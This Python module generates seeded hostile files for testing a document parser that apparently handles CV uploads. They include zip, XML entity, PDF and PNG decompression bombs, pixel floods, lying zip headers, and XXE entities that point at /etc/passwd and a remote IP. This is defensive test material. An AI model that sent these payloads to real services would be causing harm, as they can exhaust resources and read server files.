# SPDX-License-Identifier: Apache-2.0
"""Files meant to harm whoever reads them, made from a seed: bombs, lies, damage, programs.

Kinds follow the threat model (image bombs, hidden formats, XML and zip bombs, damaged and locked
files). Every file is a variant of one kind; the same seed makes the same files.
"""

import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from typing import Final
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from PIL import Image

WORD: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE: Final = "application/vnd.openxmlformats-officedocument."
_DAY: Final = (2026, 3, 2, 9, 0, 0)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: its kind, what it calls itself, its bytes."""

    kind: str
    name: str
    data: bytes


def body(inner: str, *, before: str = "") -> str:
    """Return a document part with these paragraphs."""
    return f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{inner}</w:body></w:document>'  # noqa: E501


def paragraph(text: str) -> str:
    """Return one paragraph."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(
    document: str = "",
    *,
    main: str = "wordprocessingml.document.main+xml",
    further: dict[str, bytes] | None = None,
) -> bytes:
    """Return a small DOCX with this main part, of this type, and further members."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/word/document.xml" ContentType="{_OFFICE}{main}"/>'
        "</Types>"
    )
    members = {"[Content_Types].xml": types.encode(), "word/document.xml": document.encode()}
    return zipped({**members, **(further or {})})


def zipped(members: dict[str, bytes], *, packed: bool = True) -> bytes:
    """Return a zip of these members."""
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED if packed else ZIP_STORED) as package:
        for name, content in members.items():
            package.writestr(ZipInfo(name, _DAY), content, package.compression)
    return made.getvalue()


def pdf(*contents: str, pages: int = 0, trailer: str = "", stream: bytes = b"") -> bytes:
    """Return a PDF with one page for each of ``contents`` (ASCII), or ``pages`` empty ones."""
    texts: list[bytes] = [
        f"BT /F1 12 Tf 72 700 Td ({text}) Tj ET".encode() for text in contents
    ] or [b""] * pages
    count = len(texts)
    kids = " ".join(f"{4 + 2 * n} 0 R" for n in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Count {count} /Kids [{kids}] >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for number, text in enumerate(texts):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R"
            b" >> >> /Contents %d 0 R >>" % (5 + 2 * number)
        )
        objects.append(stream or b"<< /Length %d >>\nstream\n%b\nendstream" % (len(text), text))
    return _written(objects, trailer)


def _written(objects: list[bytes], trailer: str) -> bytes:
    made = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        made
        + b"xref\n0 %d\n0000000000 65535 f \n" % size
        + table
        + b"trailer\n<< /Size %d /Root 1 0 R %b >>\n" % (size, trailer.encode())
        + b"startxref\n%d\n%%%%EOF\n" % len(made)
    )


def _bomb_stream(size: int, *, filters: int = 1) -> bytes:
    data = b" " * size
    for _ in range(filters):
        data = zlib.compress(data, 9)
    names = "/FlateDecode " * filters
    return f"<< /Length {len(data)} /Filter [{names}] >>\nstream\n".encode() + data + b"\nendstream"


def png(
    size: tuple[int, int] = (60, 80), *, color: int = 2, depth: int = 8, rows: bytes | None = None
) -> bytes:
    """Return a PNG whose header says ``size``; ``rows`` are its packed pixels."""
    width, height = size
    channels = {0: 1, 2: 3, 6: 4}[color]
    packed = rows
    if packed is None:
        packed = zlib.compress((b"\0" + bytes(width * channels)) * height)
    head = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND")


def chunk(kind: bytes, data: bytes = b"") -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _picture(chance: random.Random, form: str) -> bytes:
    made = BytesIO()
    noise = Image.frombytes("RGB", (120, 160), chance.randbytes(120 * 160 * 3))
    noise.save(made, form)
    return made.getvalue()


# --- kinds: each takes a chance and returns name and bytes ---


def _eps_in_jpeg(chance: random.Random) -> tuple[str, bytes]:
    start = chance.choice((b"%!PS-Adobe-3.0 EPSF-3.0\n", b"\xc5\xd0\xd3\xc6", b"\x04%!PS-Adobe\n"))
    return "照片.jpg", start + b"%%BoundingBox: 0 0 9 9\n" + b"showpage\n" * chance.randint(1, 400)


def _svg_in_png(chance: random.Random) -> tuple[str, bytes]:
    text = '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
    return "photo.png", (
        chance.choice(("", "\ufeff", " ", "<?xml version='1.0'?>")) + text
    ).encode()


def _other_kind(chance: random.Random) -> tuple[str, bytes]:
    starts = (
        b"GIF89a", b"BM", b"II*\0", b"MM\0*", b"RIFF\0\0\0\0WEBPVP8 ", b"Rar!\x1a\x07\0", b"MZ",
        b"\x7fELF", b"7z\xbc\xaf'\x1c", b"\0\0\0\x18ftypheic", b"<html><script>", b"{\\rtf1",
        b"\x1f\x8b\x08", b"#!/bin/sh\n", b"\0\0\0\x0cjP  ", b"8BPS\0\x01", b"\xff\x4f\xff\x51",
    )  # fmt: skip
    name = chance.choice(("简历.pdf", "简历.docx", "a.jpg", "a.png"))
    return name, chance.choice(starts) + chance.randbytes(chance.randint(1, 3000))


def _old_word(chance: random.Random) -> tuple[str, bytes]:
    return "简历.doc", bytes.fromhex("d0cf11e0a1b11ae1") + chance.randbytes(chance.randint(1, 4096))


def _locked_word(chance: random.Random) -> tuple[str, bytes]:
    name = "EncryptedPackage".encode("utf-16-le")
    return "简历.docx", _old_word(chance)[1] + name + chance.randbytes(900)


def _empty_or_heavy(chance: random.Random) -> tuple[str, bytes]:
    if chance.random() < 0.5:
        return "empty.pdf", b""
    return "heavy.pdf", b"%PDF-1.7\n" + bytes(10 * 1024 * 1024 + chance.randint(1, 999))


def _macros(chance: random.Random) -> tuple[str, bytes]:
    document = body(paragraph("CV"))
    if chance.random() < 0.4:
        return "cv.docx", docx(document, further={"word/vbaProject.bin": chance.randbytes(200)})
    if chance.random() < 0.5:
        return "cv.docx", docx(document, further={"word/activeX/activeX1.bin": b"x"})
    types = _types("application/vnd.ms-word.document.macroEnabled.main+xml")
    return "cv.docx", zipped({"[Content_Types].xml": types, "word/document.xml": document.encode()})


def _types(kind: str) -> bytes:
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    ).encode()


def _other_package(chance: random.Random) -> tuple[str, bytes]:
    if chance.random() < 0.5:
        main = chance.choice(
            ("spreadsheetml.sheet.main+xml", "presentationml.presentation.main+xml")
        )
        return "cv.docx", docx(body(""), main=main)
    return "cv.docx", zipped({f"{chance.randint(1, 99)}.txt": b"no package at all"})


def _zip_bomb(chance: random.Random) -> tuple[str, bytes]:
    mega = chance.randint(9, 40)
    return "cv.docx", docx(body(paragraph(" " * (mega * 1024 * 1024))))


def _many_members(chance: random.Random) -> tuple[str, bytes]:
    count = chance.randint(1_100, 3_000)
    return "cv.docx", docx(body(""), further={f"word/media/{n}.xml": b"" for n in range(count)})


def _claims(chance: random.Random) -> tuple[str, bytes]:
    """One member that claims to be far larger than it is."""
    plain = bytearray(docx(body(paragraph("CV" * 300))))
    place = plain.find(b"PK\x01\x02")
    struct.pack_into("<I", plain, place + 24, chance.randint(0x06000000, 0xFFFFFFF0))
    return "cv.docx", bytes(plain)


def _laughs(chance: random.Random) -> tuple[str, bytes]:
    depth = chance.randint(5, 12)
    lines = ['<!ENTITY a0 "haha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, depth)]
    return "cv.docx", docx(body(f"&a{depth - 1};", before=f"<!DOCTYPE d [{''.join(lines)}]>"))


def _quadratic(chance: random.Random) -> tuple[str, bytes]:
    before = f'<!DOCTYPE d [<!ENTITY a "{"x" * chance.randint(10_000, 90_000)}">]>'
    return "cv.docx", docx(body("&a;" * 20_000, before=before))


def _external(chance: random.Random) -> tuple[str, bytes]:
    target = chance.choice(
        ("file:///etc/passwd", "http://203.0.113.9/a", "//203.0.113.9/share/a", "file:///dev/zero")
    )
    before = chance.choice(
        (
            f'<!DOCTYPE d [<!ENTITY a SYSTEM "{target}">]>',
            f'<!DOCTYPE d SYSTEM "{target}">',
            f'<!DOCTYPE d [<!ENTITY % a SYSTEM "{target}"> %a;]>',
        )
    )
    return "cv.docx", docx(
        body("&a;" if "a SYSTEM" in before and "%" not in before else "", before=before)
    )


def _element_bomb(chance: random.Random) -> tuple[str, bytes]:
    one = chance.choice(("<a>", "<a/>", "<a b='c'>"))
    return "cv.docx", docx(body(one * (8_200_000 // len(one))))


def _broken_xml(chance: random.Random) -> tuple[str, bytes]:
    whole = body(paragraph("简历" * 50))
    return "cv.docx", docx(whole[: chance.randint(1, len(whole) - 20)])


def _broken_zip(chance: random.Random) -> tuple[str, bytes]:
    whole = docx(body(paragraph("简历" * chance.randint(50, 900))))
    if chance.random() < 0.5:
        return "cv.docx", whole[: chance.randint(30, len(whole) - 23)]
    place = whole.find(b"word/document.xml") + 20
    return "cv.docx", whole[:place] + chance.randbytes(40) + whole[place + 40 :]


def _locked_zip(chance: random.Random) -> tuple[str, bytes]:
    plain = bytearray(docx(body(paragraph("CV" * chance.randint(1, 99)))))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = plain.find(mark)
        while place >= 0:
            plain[place + offset] |= 1
            place = plain.find(mark, place + 4)
    return "cv.docx", bytes(plain)


def _truncated_pdf(chance: random.Random) -> tuple[str, bytes]:
    whole = pdf(*(f"page {n}" for n in range(chance.randint(1, 9))))
    return "cv.pdf", whole[: chance.randint(9, len(whole) - 12)]


def _broken_xref(chance: random.Random) -> tuple[str, bytes]:
    whole = pdf("a page")
    start = whole.rfind(b"startxref\n") + 10
    wrong = chance.choice((0, 3, 10**9, len(whole) + 5, chance.randint(60, start - 400)))
    return "cv.pdf", whole[:start] + b"%d\n%%%%EOF\n" % wrong


def _locked_pdf(chance: random.Random) -> tuple[str, bytes]:
    key, owner = chance.randbytes(32).hex(), chance.randbytes(32).hex()
    length, revision = chance.choice(((40, 2), (128, 3)))
    lock = (
        f"/Encrypt << /Filter /Standard /V {revision - 1} /R {revision} /Length {length} /P -44 "
        f"/O <{owner}> /U <{key}> >> /ID [<{key}> <{key}>]"
    )
    return "cv.pdf", pdf("secret", trailer=lock)


def _thousands_of_pages(chance: random.Random) -> tuple[str, bytes]:
    return "cv.pdf", pdf(pages=chance.randint(61, 4_000))


def _no_pages(chance: random.Random) -> tuple[str, bytes]:
    return "cv.pdf", pdf(trailer=f"/Info << /Title ({chance.randint(1, 999)}) >>")


def _pdf_bomb(chance: random.Random) -> tuple[str, bytes]:
    """A page whose content unpacks to hundreds of megabytes."""
    unit = chance.choice((b"q ", b"0 0 m 1 1 l S ", b"[] 0 d ", b"BT /F1 9 Tf (a) Tj ET "))
    data = zlib.compress(unit * (chance.randint(150, 300) * 2**20 // len(unit)), 9)
    head = f"<< /Length {len(data)} /Filter /FlateDecode >>\nstream\n".encode()
    return "cv.pdf", pdf(pages=1, stream=head + data + b"\nendstream")


def _many_pixels(chance: random.Random) -> tuple[str, bytes]:
    size = (chance.randint(6_000, 60_000), chance.randint(5_000, 60_000))
    return "photo.png", png(size, rows=zlib.compress(bytes(100_000)))


def _many_pixels_jpeg(chance: random.Random) -> tuple[str, bytes]:
    plain = bytearray(_picture(chance, "JPEG"))
    place = plain.find(b"\xff\xc0")
    struct.pack_into(">HH", plain, place + 5, chance.randint(6_000, 65_000), 65_000)
    return "photo.jpg", bytes(plain)


def _packed_pixels(chance: random.Random) -> tuple[str, bytes]:
    """Just below the limit of pixels, four channels, and cut: 100 MB before the end is missed."""
    side = chance.randint(4_700, 4_999)
    packer = zlib.compressobj(1)
    row = b"\0" + bytes(side * 4)
    packed = b"".join(packer.compress(row) for _ in range(side // 2))
    return "photo.png", png((side, side), color=6, rows=packed + packer.flush())


def _truncated_picture(chance: random.Random) -> tuple[str, bytes]:
    form, name = chance.choice((("JPEG", "a.jpg"), ("PNG", "a.png")))
    whole = _picture(chance, form)
    return name, whole[: chance.randint(len(whole) // 10, len(whole) * 9 // 10)]


def _animated(chance: random.Random) -> tuple[str, bytes]:
    made = BytesIO()
    frames = [
        Image.new("RGB", (60, 80), (chance.randrange(256), 9 * n, 9))
        for n in range(chance.randint(2, 6))
    ]
    frames[0].save(made, "PNG", save_all=True, append_images=frames[1:], duration=90)
    return "photo.png", made.getvalue()


def _broken_png(chance: random.Random) -> tuple[str, bytes]:
    rows = chance.choice((b"", chance.randbytes(500), zlib.compress(b"\0" * 40)))
    return "photo.png", png((400, 500), rows=rows)


def _text_bomb(chance: random.Random) -> tuple[str, bytes]:
    """A PNG whose text chunk unpacks to far more than the picture."""
    text = b"Comment\0\0" + zlib.compress(b" " * (chance.randint(20, 60) * 2**20), 9)
    whole = png()
    return "photo.png", whole[:33] + chunk(b"zTXt", text) + whole[33:]


KINDS: Final[dict[str, Callable[[random.Random], tuple[str, bytes]]]] = {
    make.__name__.lstrip("_"): make
    for make in (
        _eps_in_jpeg, _svg_in_png, _other_kind, _old_word, _locked_word, _empty_or_heavy, _macros,
        _other_package, _zip_bomb, _many_members, _claims, _laughs, _quadratic, _external,
        _element_bomb, _broken_xml, _broken_zip, _locked_zip, _truncated_pdf, _broken_xref,
        _locked_pdf, _thousands_of_pages, _no_pages, _pdf_bomb, _many_pixels, _many_pixels_jpeg,
        _packed_pixels, _truncated_picture, _animated, _broken_png, _text_bomb,
    )
}  # fmt: skip
"""Kind to its maker."""

SLOW_TO_MAKE: Final = frozenset(
    {"zip_bomb", "pdf_bomb", "packed_pixels", "element_bomb", "text_bomb"}
)
"""Kinds of which a few are enough: each file is large while it is made."""


def hostile_files(count: int, *, seed: int, few: int = 4) -> Iterator[Hostile]:
    """Yield at least ``count`` files of every kind in turn, ``few`` of each slow kind."""
    chance = random.Random(seed)
    made = turn = 0
    while made < count:
        for kind, make in KINDS.items():
            if kind not in SLOW_TO_MAKE or turn < few:
                yield Hostile(kind, *make(chance))
                made += 1
        turn += 1
